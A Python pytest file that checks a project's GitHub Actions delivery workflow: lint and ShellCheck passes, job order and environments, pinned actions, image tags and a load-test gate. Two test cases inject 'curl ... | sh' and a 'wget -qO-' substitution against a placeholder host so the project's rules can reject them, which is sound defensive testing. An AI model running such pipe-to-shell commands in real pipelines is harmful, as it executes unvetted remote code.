"""The delivery workflow (.github/workflows/delivery.yml), offline: the real actionlint (with ShellCheck on
every script) and replayrec's rules pass on the committed workflow and reject broken copies of it with a
message naming the problem; every ``replayrec`` call in it exists with the options it passes; the renders the
deploy jobs apply pin the project's images at the commit; the load test's gate holds the seed's thresholds.

Untested here: the forge itself (triggers, environments and their reviewers, secrets, artifacts), the
registry push, and the cluster (apply, rollouts, port-forward, the live canary): none of it runs here."""

from __future__ import annotations

import copy
import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from replayrec.config import Settings
from replayrec.infra import (
    DEFAULT_REGISTRY,
    DELIVERY_CHAIN,
    DELIVERY_WORKFLOW,
    IMAGES,
    InfraError,
    actionlint_errors,
    check_delivery,
    delivery_rules,
    environment_documents,
    load_gate,
    pin_project_images,
    script_commands,
)
from replayrec.testing import run_cli

REPO = Path(__file__).resolve().parents[1]
TOOLS = REPO / ".venv-deploy" / "bin"


@pytest.fixture(scope="module")
def settings() -> Settings:
    for tool in ("actionlint", "shellcheck", "kubectl"):
        if not (TOOLS / tool).is_file():
            pytest.fail(f"{TOOLS / tool} is missing: run `make deploy-tools` (make test does)")
    return Settings(
        infra_dir=REPO / "infra", data_dir=REPO.parent / "shared" / "data", deploy_tools_bin=TOOLS
    )


@pytest.fixture(scope="module")
def workflow() -> dict[Any, Any]:
    doc: dict[Any, Any] = yaml.safe_load((REPO / DELIVERY_WORKFLOW).read_text())
    return doc


def _problems(settings: Settings, tmp_path: Path, doc: dict[Any, Any]) -> list[str]:
    """actionlint's errors and the rules' for ``doc`` written as a repository's delivery workflow."""
    (tmp_path / ".github" / "workflows").mkdir(parents=True, exist_ok=True)
    (tmp_path / ".github" / "actionlint.yaml").write_text((REPO / ".github" / "actionlint.yaml").read_text())
    path = tmp_path / DELIVERY_WORKFLOW
    as_written = {"on" if k is True else k: v for k, v in doc.items()}  # PyYAML read `on:` as true
    path.write_text(yaml.safe_dump(as_written, sort_keys=False))
    return actionlint_errors(settings, [path], tmp_path) + delivery_rules(doc)


@pytest.mark.integration
def test_the_committed_workflow_passes_actionlint_shellcheck_and_the_rules(settings: Settings) -> None:
    steps = check_delivery(settings)
    assert [(s.step, s.ok) for s in steps] == [("actionlint", True), ("delivery", True)], [
        s.detail for s in steps
    ]
    assert steps[0].numbers["workflows"] >= 1


def test_the_jobs_run_in_the_delivery_order_behind_their_environments(workflow: dict[Any, Any]) -> None:
    jobs = workflow["jobs"]
    assert list(jobs) == list(DELIVERY_CHAIN)
    assert [jobs[j].get("needs") for j in DELIVERY_CHAIN] == [None, *DELIVERY_CHAIN[:-1]]
    envs = {j: (jobs[j].get("environment") or {}).get("name") for j in DELIVERY_CHAIN}
    assert envs == {**dict.fromkeys(DELIVERY_CHAIN), "deploy-staging": "staging", "canary": "canary",
                    "prod": "prod"}  # fmt: skip
    assert workflow["concurrency"]["cancel-in-progress"] is False
    assert workflow["permissions"] == {"contents": "read"}
    assert set(workflow[True]) == {"push", "workflow_dispatch"}  # YAML 1.1 reads `on:` as true


def _replayrec_calls(workflow: dict[Any, Any]) -> list[list[str]]:
    return [
        words
        for job in workflow["jobs"].values()
        for step in job["steps"]
        if "run" in step
        for words in script_commands(step["run"])
        if words[0] == "replayrec"
    ]


def test_every_replayrec_call_of_the_workflow_exists_with_its_options(
    workflow: dict[Any, Any], tmp_path: Path
) -> None:
    calls = _replayrec_calls(workflow)
    used = {" ".join(w[1:3]) for w in calls}
    assert {"deploy build", "deploy check", "deploy render", "bench serve", "deploy load-gate",
            "pipeline step", "data prepare"} <= used  # fmt: skip
    for words in calls:
        path = [w for w in words[1:4] if re.fullmatch(r"[a-z][a-z-]*", w)][:2]
        proc = run_cli([*path, "--help"], state_dir=tmp_path)
        assert proc.returncode == 0, proc.stderr
        for option in (w for w in words if w.startswith("--")):
            assert option in proc.stdout, f"replayrec {' '.join(path)} has no {option}"


@pytest.mark.integration
@pytest.mark.parametrize(
    ("break_it", "expected"),
    [
        (lambda d: d["jobs"]["deploy-staging"].pop("needs"),
         "jobs.deploy-staging.needs: none, expected ['manifests']"),
        (lambda d: d["jobs"]["canary"].update(needs="manifests"),
         "jobs.canary.needs: ['manifests'], expected ['load-test-staging']"),
        (lambda d: d["jobs"]["test"]["steps"].insert(0, {"run": "curl -sSf https://example.invalid | sh"}),
         "'curl -sSf' is neither a developer's command"),
        (lambda d: d["jobs"]["images"]["steps"][1].update(env={"SHA": "${{ commit.sha }}"}),
         'undefined variable "commit"'),
        (lambda d: d["jobs"]["manifests"]["steps"][1].update(run="replayrec deploy check ${{ github.sha }}"),
         "a ${{ }} expression expanded into the script"),
        (lambda d: d["jobs"]["test"]["steps"][0].update(uses="actions/checkout@v4"),
         "actions/checkout@v4 is not pinned by a full commit SHA"),
        (lambda d: d["concurrency"].update({"cancel-in-progress": True}),
         "a newer commit waits, it never cancels a deploy"),
        (lambda d: d["jobs"]["prod"].pop("environment"), "jobs.prod.environment: None, expected prod"),
        (lambda d: d["jobs"]["canary"].pop("timeout-minutes"), "jobs.canary: timeout-minutes is missing"),
        (lambda d: d["permissions"].update(contents="write"), "permissions.contents: write"),
        (lambda d: d["jobs"]["test"]["steps"][1].update(run='echo "$(wget -qO- https://example.invalid)"'),
         "'wget -qO-' is neither a developer's command"),
        (lambda d: d["jobs"]["load-test-staging"]["steps"][3].update(run="echo $STAGING_URL"),
         "SC2086"),
    ],
    ids=["missing-needs", "wrong-needs", "unknown-command", "unknown-context", "expression-in-script",
         "unpinned-action", "cancel-in-progress", "no-environment", "no-timeout", "write-permission",
         "command-in-substitution", "shellcheck"],
)  # fmt: skip
def test_a_broken_workflow_is_rejected_with_a_clear_message(
    settings: Settings, workflow: dict[Any, Any], tmp_path: Path, break_it: Any, expected: str
) -> None:
    assert _problems(settings, tmp_path, workflow) == []
    broken = copy.deepcopy(workflow)
    break_it(broken)
    problems = _problems(settings, tmp_path, broken)
    assert any(expected in p for p in problems), problems


@pytest.mark.integration
def test_deploy_check_fails_on_a_broken_workflow_and_names_it(
    settings: Settings, workflow: dict[Any, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    broken = copy.deepcopy(workflow)
    broken["jobs"]["prod"]["needs"] = "deploy-staging"
    _problems(settings, tmp_path, broken)
    monkeypatch.setenv("REPLAYREC_INFRA_DIR", str(tmp_path / "infra"))
    monkeypatch.setenv("REPLAYREC_DEPLOY_TOOLS_BIN", str(TOOLS))
    proc = run_cli(["deploy", "check", "--only", "delivery"], state_dir=tmp_path / "state")
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "FAIL delivery" in proc.stdout
    assert "jobs.prod.needs: ['deploy-staging'], expected ['canary']" in proc.stdout


def test_script_commands_reads_loops_substitutions_traps_and_tool_paths() -> None:
    script = """set -euo pipefail
for env in staging prod; do
  .venv/bin/replayrec deploy render "$env" > "rendered/$env.yaml"  # a comment
done
forward=$!; trap 'kill "$forward"' EXIT
if ! test "$(cat out/passed)" = true; then echo no; exit 1; fi
printf '%s' "$P" |
  buildah login --password-stdin r
"""
    names = [" ".join(w[:2]) for w in script_commands(script)]
    assert names == ["set -euo", "replayrec deploy", 'trap kill "$forward"', "kill $forward",
                     "test $(cat out/passed)", "cat out/passed", "echo no", "exit 1", "printf %s",
                     "buildah login"]  # fmt: skip
    with pytest.raises(InfraError, match="here-documents"):
        script_commands("cat <<EOF\nx\nEOF\n")


@pytest.mark.integration
def test_the_deploy_renders_pin_the_project_images_at_the_commit(settings: Settings) -> None:
    sha = "0123456789abcdef0123456789abcdef01234567"
    prod = environment_documents(settings, "prod", beside=False)
    pinned = pin_project_images(prod, sha, "registry.example:5000/rr")  # the GPU image keeps its -cu128
    images = {c["image"] for d in pinned for c in _containers(d)}
    ours = {i for i in images if "/replayrec-" in i}
    registry = "registry.example:5000/rr"
    want = {f"{registry}/replayrec-{n}:{sha}" for n in ("service", "stream", "training")}
    assert ours == want | {f"{registry}/replayrec-training:{sha}-cu128"}
    assert ours == {spec.tag(REPO, registry, sha) for spec in IMAGES}  # what deploy build --extra-tag pushes
    assert images - ours == {c["image"] for d in prod for c in _containers(d)} - {
        i for d in prod for c in _containers(d) if (i := c["image"]).startswith(DEFAULT_REGISTRY)
    }  # Redis, Kafka, PostgreSQL as they were
    # the canary overlay alone: deleting what it renders retires the canary and leaves prod as it is
    canary = {
        (d["kind"], d["metadata"]["name"]) for d in environment_documents(settings, "canary", beside=False)
    }
    assert all("-canary" in name for _, name in canary), canary
    assert not canary & {(d["kind"], d["metadata"]["name"]) for d in prod}
    with pytest.raises(InfraError, match="not a valid image tag"):
        pin_project_images(prod, "bad tag")


def _containers(node: Any) -> list[dict[str, Any]]:
    """Every mapping with an ``image`` (containers, init containers, Ray's group specs) under ``node``."""
    if isinstance(node, list):
        return [c for v in node for c in _containers(v)]
    if not isinstance(node, dict):
        return []
    return ([node] if isinstance(node.get("image"), str) else []) + _containers(list(node.values()))


def _bench(qps: float, p99: float, errors: int = 0, requests: int = 3000) -> dict[str, Any]:
    row = {"qps": qps, "p50_ms": p99 / 3, "p95_ms": p99 / 2, "p99_ms": p99, "errors": errors,
           "runs": [{"requests": requests}]}  # fmt: skip
    return {"uncached": row, "cached": dict(row, qps=qps * 4), "erratic": dict(row)}


def test_the_load_gate_holds_the_seeds_thresholds() -> None:
    def gate(result: dict[str, Any]) -> list[Any]:
        return load_gate(result, min_qps=50, max_p99_ms=200, max_error_rate=0.001)

    (ok,) = gate(_bench(166.0, 50.7))
    assert ok.passed
    assert ok.detail.startswith("166.0 QPS, p99 50.7 ms, 0 errors in 3,000 requests")
    (slow,) = gate(_bench(49.9, 200.0, errors=4))
    assert not slow.passed
    assert slow.detail.endswith("49.9 QPS < 50; p99 200.0 ms ≥ 200; error rate 0.13% > 0.10%")
    with pytest.raises(InfraError, match="no scenario 'uncached'"):
        gate({"setup": {}})


def test_the_load_gate_command_exits_non_zero_when_a_threshold_is_missed(tmp_path: Path) -> None:
    result = tmp_path / "bench.json"
    result.write_text(json.dumps(_bench(80.0, 250.0)))
    proc = run_cli(["deploy", "load-gate", str(result)], state_dir=tmp_path)
    assert proc.returncode == 1
    assert "FAIL uncached: 80.0 QPS, p99 250.0 ms" in proc.stdout
    assert "p99 250.0 ms ≥ 200" in proc.stdout
    proc = run_cli(["deploy", "load-gate", str(result), "--max-p99-ms", "300", "--scenario", "uncached",
                    "--scenario", "cached", "--json"], state_dir=tmp_path)  # fmt: skip
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert [c["scenario"] for c in json.loads(proc.stdout)["checks"]] == ["uncached", "cached"]
    result.write_text("{}")
    proc = run_cli(["deploy", "load-gate", str(result)], state_dir=tmp_path)
    assert proc.returncode == 2
    assert "no scenario 'uncached'" in proc.stderr
